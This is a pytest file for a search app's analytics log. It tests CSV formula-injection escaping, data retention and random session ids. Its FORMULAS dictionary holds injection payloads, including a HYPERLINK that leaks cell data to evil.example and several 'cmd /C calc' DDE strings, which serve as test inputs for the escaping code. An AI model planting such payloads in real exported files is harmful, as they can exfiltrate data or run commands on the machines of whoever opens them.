"""Issue 7, finding 7 and analytics hygiene: CSV formula injection, retention, random session ids."""

from __future__ import annotations

import csv
import json
import os
import re
import time
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from PIL import Image

from visual_search.analytics import SearchLog, escape_csv_cell, new_session_id
from visual_search.core.config import DEFAULT_LOG_DAYS, Settings, add_log_days_argument

FORMULAS = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def _search(log: SearchLog, **overrides) -> str:
    args = dict(
        mode="text",
        query_text="red shoes",
        filters={},
        top_k=12,
        threshold=None,
        result_ids=["p1"],
        scores=[0.9],
        latency_ms=10.0,
    )
    args.update(overrides)
    return log.log_search(**args)


def _rows(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


@pytest.mark.parametrize("lead", list(FORMULAS), ids=[repr(c) for c in FORMULAS])
def test_export_escapes_every_formula_leading_character(tmp_path: Path, lead: str) -> None:
    payload = FORMULAS[lead]
    log = SearchLog(tmp_path / "events.jsonl")
    qid = _search(log, query_text=payload, result_ids=[payload, "ok"], filters=payload)
    log.log_feedback(query_id=qid, product_id=payload, action="click", rank=1)
    (search, feedback) = _rows(log.export_csv(tmp_path / "export.csv"))
    assert search["query_text"] == "'" + payload
    assert search["filters"] == "'" + payload
    assert search["result_ids"] == "'" + payload + "|ok"
    assert feedback["product_id"] == "'" + payload
    for row in (search, feedback):  # no cell of the file starts a formula any more
        assert not any(v.startswith(tuple(FORMULAS)) for v in row.values()), row
    assert log.records()[0]["query_text"] == payload  # the log itself keeps what was typed


def test_plain_and_numeric_cells_are_left_alone(tmp_path: Path) -> None:
    log = SearchLog(tmp_path / "events.jsonl")
    _search(log, query_text="shoes - red", threshold=-0.25, scores=[-0.5])
    (row,) = _rows(log.export_csv(tmp_path / "export.csv"))
    assert row["query_text"] == "shoes - red"
    assert row["threshold"] == "-0.25" and row["top_score"] == "-0.5"  # numbers, not text: not escaped
    _search(log, query_text="red\rshoes\n=1+1")  # a CR or LF inside a cell cannot start a new row
    assert [r["query_text"] for r in _rows(log.export_csv(tmp_path / "export.csv"))] == [
        "shoes - red",
        "red\rshoes\n=1+1",
    ]
    assert escape_csv_cell(-3) == -3 and escape_csv_cell(None) is None and escape_csv_cell("a=b") == "a=b"


def _age(path: Path, days: float) -> None:
    stamp = time.time() - days * 86400
    os.utime(path, (stamp, stamp))


def _write_event(path: Path, when: datetime, query_id: str) -> None:
    with open(path, "a", encoding="utf-8") as fh:
        record = {
            "timestamp": when.isoformat(timespec="milliseconds"),
            "event": "search",
            "query_id": query_id,
        }
        fh.write(json.dumps(record) + "\n")


def test_retention_at_start_drops_old_events_photos_and_exports(tmp_path: Path) -> None:
    path = tmp_path / "search_log.jsonl"
    now = datetime.now(timezone.utc)
    _write_event(path, now - timedelta(days=40), "old")
    _write_event(path, now - timedelta(days=29, hours=23), "recent")
    with open(path, "a", encoding="utf-8") as fh:
        fh.write('{"event": "search", "query_id": "undated"}\n')
    photos = tmp_path / "photos"
    photos.mkdir()
    old_photo, new_photo = photos / "old.jpg", photos / "new.jpg"
    for p in (old_photo, new_photo):
        Image.new("RGB", (4, 4)).save(p)
    _age(old_photo, 31)
    old_export, new_export = tmp_path / "search_log.csv", tmp_path / "search_log-2026.csv"
    old_export.write_text("x")
    new_export.write_text("x")
    _age(old_export, 45)
    unrelated = tmp_path / "notes.csv"
    unrelated.write_text("not ours")
    _age(unrelated, 400)

    log = SearchLog(path, retention_days=30)  # start: clean up at once

    assert [r["query_id"] for r in log.records()] == ["recent", "undated"]
    assert not old_photo.exists() and new_photo.exists()
    assert not old_export.exists() and new_export.exists()
    assert unrelated.exists()  # only files this log wrote are touched
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []


def test_retention_runs_daily_while_the_app_keeps_logging(tmp_path: Path, monkeypatch) -> None:
    path = tmp_path / "search_log.jsonl"
    log = SearchLog(path, retention_days=7)
    _search(log, query_text="today")
    _write_event(path, datetime.now(timezone.utc) - timedelta(days=8), "stale")
    _search(log, query_text="same day")  # no second clean-up within the day
    assert len(log.records()) == 3

    import visual_search.analytics as analytics

    clock = time.monotonic() + analytics.PRUNE_EVERY_S + 1
    monkeypatch.setattr(analytics.time, "monotonic", lambda: clock)
    _search(log, query_text="next day")
    assert [r.get("query_text") for r in log.records()] == ["today", "same day", "next day"]


def test_no_retention_keeps_everything(tmp_path: Path) -> None:
    path = tmp_path / "search_log.jsonl"
    _write_event(path, datetime.now(timezone.utc) - timedelta(days=4000), "ancient")
    for days in (None, 0):
        log = SearchLog(path, retention_days=days)
        assert log.prune() == 0 and [r["query_id"] for r in log.records()] == ["ancient"]
    with pytest.raises(ValueError, match="retention_days"):
        SearchLog(path, retention_days=-1)


def test_log_days_setting_flag_and_environment(monkeypatch) -> None:
    import argparse

    monkeypatch.delenv("VS_LOG_DAYS", raising=False)
    assert Settings.from_env().log_days == DEFAULT_LOG_DAYS == 30
    monkeypatch.setenv("VS_LOG_DAYS", "7")
    assert Settings.from_env().log_days == 7
    parser = argparse.ArgumentParser()
    parser.add_argument("--model")
    for name in ("device", "data_dir", "qdrant_url", "qdrant_api_key", "collection", "bg_model"):
        parser.add_argument(f"--{name.replace('_', '-')}")
    add_log_days_argument(parser)
    assert Settings.from_args(parser.parse_args(["--log-days", "3"])).log_days == 3
    assert Settings.from_args(parser.parse_args([])).log_days == 7  # the environment's value
    assert Settings.from_args(parser.parse_args(["--log-days", "0"])).log_days == 0
    with pytest.raises(SystemExit):
        parser.parse_args(["--log-days", "-2"])
    monkeypatch.setenv("VS_LOG_DAYS", "forever")
    with pytest.warns(UserWarning, match="VS_LOG_DAYS"):
        assert Settings.from_env().log_days == DEFAULT_LOG_DAYS  # never 'keep forever' by a typo


def test_session_ids_are_random_pseudonyms(tmp_path: Path) -> None:
    log = SearchLog(tmp_path / "events.jsonl")
    gradio_hash = "abc123sessionhash"
    qid = _search(log, session=gradio_hash)
    log.log_feedback(query_id=qid, product_id="p1", action="click", session=gradio_hash)
    _search(log, session="another-browser")
    _search(log, session=None)
    first, click, other, anonymous = log.records()
    assert first["session"] == click["session"]  # one browser session, one id: clicks join searches
    assert first["session"] != other["session"]
    assert anonymous["session"] is None
    raw = (tmp_path / "events.jsonl").read_text()
    assert gradio_hash not in raw and "another-browser" not in raw  # the live session key never logged
    assert re.fullmatch(r"[A-Za-z0-9_-]{22,}", first["session"])  # >= 128 random bits, URL-safe

    again = SearchLog(tmp_path / "events.jsonl")  # another handle on the same log agrees
    _search(again, session=gradio_hash)
    assert again.records()[-1]["session"] == first["session"]
    assert SearchLog(tmp_path / "other.jsonl").session_id(gradio_hash) != first["session"]


def test_new_session_ids_do_not_repeat_and_query_ids_are_random(tmp_path: Path) -> None:
    ids = {new_session_id() for _ in range(2000)}
    assert len(ids) == 2000 and min(len(i) for i in ids) >= 22
    log = SearchLog(tmp_path / "events.jsonl")
    qids = [_search(log) for _ in range(200)]
    assert len(set(qids)) == 200 and all(re.fullmatch(r"[0-9a-f]{32}", q) for q in qids)
